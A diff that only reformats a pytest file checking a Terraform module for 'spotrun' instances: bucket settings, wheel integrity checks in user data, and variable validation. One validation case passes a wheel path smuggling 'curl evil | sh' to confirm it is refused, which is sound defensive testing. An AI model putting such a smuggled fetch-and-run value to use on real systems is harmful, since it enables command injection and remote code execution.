@@ -48,7 +48,9 @@ def _named(block_type: str) -> dict[str, dict[str, Any]]:
 
 def _resources(kind: str, block_type: str = "resource") -> dict[str, dict[str, Any]]:
     """Resources (or data sources) of one type, by name."""
-    return {name: body for entry in _parsed()[block_type] for type_, named in entry.items() if type_ == kind for name, body in named.items()}
+    return {
+        name: body for entry in _parsed()[block_type] for type_, named in entry.items() if type_ == kind for name, body in named.items()
+    }
 
 
 def test_module_declares_every_output_spotrun_reads() -> None:
@@ -59,8 +61,16 @@ def test_module_declares_every_output_spotrun_reads() -> None:
 
 def test_every_variable_has_a_description_and_a_type() -> None:
     variables = _named("variable")
-    assert {"region", "vpc_id", "subnet_ids", "ami_ssm_parameter", "ami_id", "root_volume_size_gb", WHEEL_VARIABLE,
-            "noncurrent_version_expiration_days"} <= variables.keys()
+    assert {
+        "region",
+        "vpc_id",
+        "subnet_ids",
+        "ami_ssm_parameter",
+        "ami_id",
+        "root_volume_size_gb",
+        WHEEL_VARIABLE,
+        "noncurrent_version_expiration_days",
+    } <= variables.keys()
     for name, body in variables.items():
         assert body.get("description"), f"variable {name} has no description"
         assert body.get("type"), f"variable {name} has no type"
@@ -117,7 +127,9 @@ def test_bucket_is_versioned_encrypted_private_and_expires_old_versions() -> Non
     (encryption,) = _resources("aws_s3_bucket_server_side_encryption_configuration")["checkpoints"]["rule"]
     assert encryption["apply_server_side_encryption_by_default"] == [{"sse_algorithm": "AES256"}]
     block = _resources("aws_s3_bucket_public_access_block")["checkpoints"]
-    assert all(block[flag] is True for flag in ("block_public_acls", "block_public_policy", "ignore_public_acls", "restrict_public_buckets"))
+    assert all(
+        block[flag] is True for flag in ("block_public_acls", "block_public_policy", "ignore_public_acls", "restrict_public_buckets")
+    )
     (rule,) = _resources("aws_s3_bucket_lifecycle_configuration")["checkpoints"]["rule"]
     assert rule["noncurrent_version_expiration"] == [{"noncurrent_days": "${var.noncurrent_version_expiration_days}"}]
 
@@ -140,8 +152,12 @@ def test_instances_get_the_wheel_terraform_stored_under_its_digest_and_no_packag
     assert stored["bucket"] == "${aws_s3_bucket.checkpoints.id}" and stored["source"] == "${var.spotrun_wheel}"
     assert "${local.spotrun_wheel_sha256}" in stored["key"]
     (template,) = _resources("aws_launch_template").values()
-    for argument in ("bucket = aws_s3_object.spotrun_wheel.bucket", "wheel_key = aws_s3_object.spotrun_wheel.key",
-                     "wheel_name = local.spotrun_wheel_name", "wheel_sha256 = local.spotrun_wheel_sha256"):
+    for argument in (
+        "bucket = aws_s3_object.spotrun_wheel.bucket",
+        "wheel_key = aws_s3_object.spotrun_wheel.key",
+        "wheel_name = local.spotrun_wheel_name",
+        "wheel_sha256 = local.spotrun_wheel_sha256",
+    ):
         assert argument in template["user_data"]
     assert "spotrun_package" not in _named("variable")
 
@@ -158,7 +174,10 @@ def test_user_data_reads_the_tags_the_agent_expects() -> None:
 def test_module_is_terraform_fmt_clean(terraform_config: Path) -> None:
     result = subprocess.run(
         ["terraform", "fmt", "-check", "-recursive", "-diff", str(MODULE_DIR)],
-        env={**os.environ, "CHECKPOINT_DISABLE": "1"}, capture_output=True, text=True, timeout=60,
+        env={**os.environ, "CHECKPOINT_DISABLE": "1"},
+        capture_output=True,
+        text=True,
+        timeout=60,
     )
     assert result.returncode == 0, f"run `terraform fmt -recursive terraform/`:\n{result.stdout}{result.stderr}"
 
@@ -166,10 +185,15 @@ def test_module_is_terraform_fmt_clean(terraform_config: Path) -> None:
 def _render_user_data(tmp_path: Path, **values: str) -> str:
     """The user data as terraform renders it for the launch template, with these template variables."""
     names = sorted(values)
-    module = write_module(tmp_path / "render", "".join(f'variable "{name}" {{\n  type = string\n}}\n' for name in names) + (
-        'output "user_data" {\n  value = templatefile("${path.module}/user_data.sh.tftpl", {'
-        + ", ".join(f"{name} = var.{name}" for name in names) + "})\n}\n"
-    ))
+    module = write_module(
+        tmp_path / "render",
+        "".join(f'variable "{name}" {{\n  type = string\n}}\n' for name in names)
+        + (
+            'output "user_data" {\n  value = templatefile("${path.module}/user_data.sh.tftpl", {'
+            + ", ".join(f"{name} = var.{name}" for name in names)
+            + "})\n}\n"
+        ),
+    )
     shutil.copyfile(MODULE_DIR / "user_data.sh.tftpl", module / "user_data.sh.tftpl")
     terraform = TerraformModule(tmp_path / "work", tmp_path / "outputs.json", source=module)
     terraform.init()
@@ -179,8 +203,13 @@ def _render_user_data(tmp_path: Path, **values: str) -> str:
 @needs_terraform
 def test_user_data_renders_to_valid_bash(tmp_path: Path, terraform_config: Path) -> None:
     """Rendered by terraform itself with the launch template's arguments, then parsed by bash."""
-    script = _render_user_data(tmp_path, bucket="spotrun-checkpoints-1", wheel_key="_spotrun/wheels/ab/spotrun-0.1.0-py3-none-any.whl",
-                               wheel_name="spotrun-0.1.0-py3-none-any.whl", wheel_sha256="ab" * 32)
+    script = _render_user_data(
+        tmp_path,
+        bucket="spotrun-checkpoints-1",
+        wheel_key="_spotrun/wheels/ab/spotrun-0.1.0-py3-none-any.whl",
+        wheel_name="spotrun-0.1.0-py3-none-any.whl",
+        wheel_sha256="ab" * 32,
+    )
 
     checked = subprocess.run(["bash", "-n"], input=script, capture_output=True, text=True, timeout=30)
     assert checked.returncode == 0, checked.stderr
@@ -216,10 +245,17 @@ def _boot(script: str, instance: Path) -> tuple[subprocess.CompletedProcess[str]
         (bin_dir / name).chmod(0o755)
     for line in ("VENV=/opt/spotrun\n", "WHEELS=/opt/spotrun-wheels\n"):
         assert line in script
-    script = script.replace("VENV=/opt/spotrun\n", f"VENV={instance}/venv\n").replace("WHEELS=/opt/spotrun-wheels\n", f"WHEELS={instance}/wheels\n")
+    script = script.replace("VENV=/opt/spotrun\n", f"VENV={instance}/venv\n").replace(
+        "WHEELS=/opt/spotrun-wheels\n", f"WHEELS={instance}/wheels\n"
+    )
     log = instance / "boot.log"
-    env = {**os.environ, "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}", "BOOT_LOG": str(log), "REAL_PYTHON": sys.executable,
-           "RECORDER": str(bin_dir / "recorder")}
+    env = {
+        **os.environ,
+        "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}",
+        "BOOT_LOG": str(log),
+        "REAL_PYTHON": sys.executable,
+        "RECORDER": str(bin_dir / "recorder"),
+    }
     booted = subprocess.run(["bash", "-c", script], env=env, capture_output=True, text=True, timeout=60)
     return booted, log.read_text().splitlines() if log.exists() else []
 
@@ -242,7 +278,11 @@ def test_user_data_installs_the_wheel_from_the_bucket_only_when_its_sha256_match
     assert booted.returncode == 0, booted.stdout + booted.stderr
     installed = f"{tmp_path}/instance-1/wheels/{name}"
     assert Path(installed).read_bytes() == wheel
-    assert [line for line in asked if "install" in line] == ["pip install -q --upgrade pip", "pip install -q boto3", f"pip install -q {installed}"]
+    assert [line for line in asked if "install" in line] == [
+        "pip install -q --upgrade pip",
+        "pip install -q boto3",
+        f"pip install -q {installed}",
+    ]
     assert asked[-2:] == ["spotrun agent --from-instance-tags", "shutdown -h now"]
 
     # A job's code may write anywhere in the bucket (its role can): a replaced wheel is not installed.
@@ -259,20 +299,27 @@ def test_variable_defaults_pass_their_own_validation(tmp_path: Path, terraform_c
 
 
 @needs_terraform
-@pytest.mark.parametrize(("name", "value", "complaint"), [
-    ("region", "mars-1", "region must look like an AWS region"),
-    ("name_prefix", "Spot_Run", "name_prefix must be 1-24 characters"),
-    ("bucket_name", "No", "bucket_name must be a valid S3 bucket name"),
-    ("noncurrent_version_expiration_days", "0", "at least 1"),
-    ("subnet_ids", '["sg-0123"]', "subnet_ids must be subnet ids"),
-    ("ami_id", "image-1", "ami_id must be an AMI id"),
-    ("root_volume_size_gb", "8", "between 30 and 16384"),
-    ("spotrun_wheel", "/tmp/x/spotrun'; curl evil | sh; '.whl", "the path of a wheel file"),
-    ("spotrun_wheel", "/tmp/spotrun.tar.gz", "the path of a wheel file"),
-    ("spotrun_wheel", "/nowhere/spotrun-0.1.0-py3-none-any.whl", "spotrun_wheel names no file"),
-])
+@pytest.mark.parametrize(
+    ("name", "value", "complaint"),
+    [
+        ("region", "mars-1", "region must look like an AWS region"),
+        ("name_prefix", "Spot_Run", "name_prefix must be 1-24 characters"),
+        ("bucket_name", "No", "bucket_name must be a valid S3 bucket name"),
+        ("noncurrent_version_expiration_days", "0", "at least 1"),
+        ("subnet_ids", '["sg-0123"]', "subnet_ids must be subnet ids"),
+        ("ami_id", "image-1", "ami_id must be an AMI id"),
+        ("root_volume_size_gb", "8", "between 30 and 16384"),
+        ("spotrun_wheel", "/tmp/x/spotrun'; curl evil | sh; '.whl", "the path of a wheel file"),
+        ("spotrun_wheel", "/tmp/spotrun.tar.gz", "the path of a wheel file"),
+        ("spotrun_wheel", "/nowhere/spotrun-0.1.0-py3-none-any.whl", "spotrun_wheel names no file"),
+    ],
+)
 def test_bad_variable_values_are_refused_with_the_modules_message(
-    tmp_path: Path, terraform_config: Path, name: str, value: str, complaint: str,
+    tmp_path: Path,
+    terraform_config: Path,
+    name: str,
+    value: str,
+    complaint: str,
 ) -> None:
     with pytest.raises(TerraformError, match=complaint):
         _variables_only(tmp_path).apply({**_a_wheel(tmp_path), name: value})
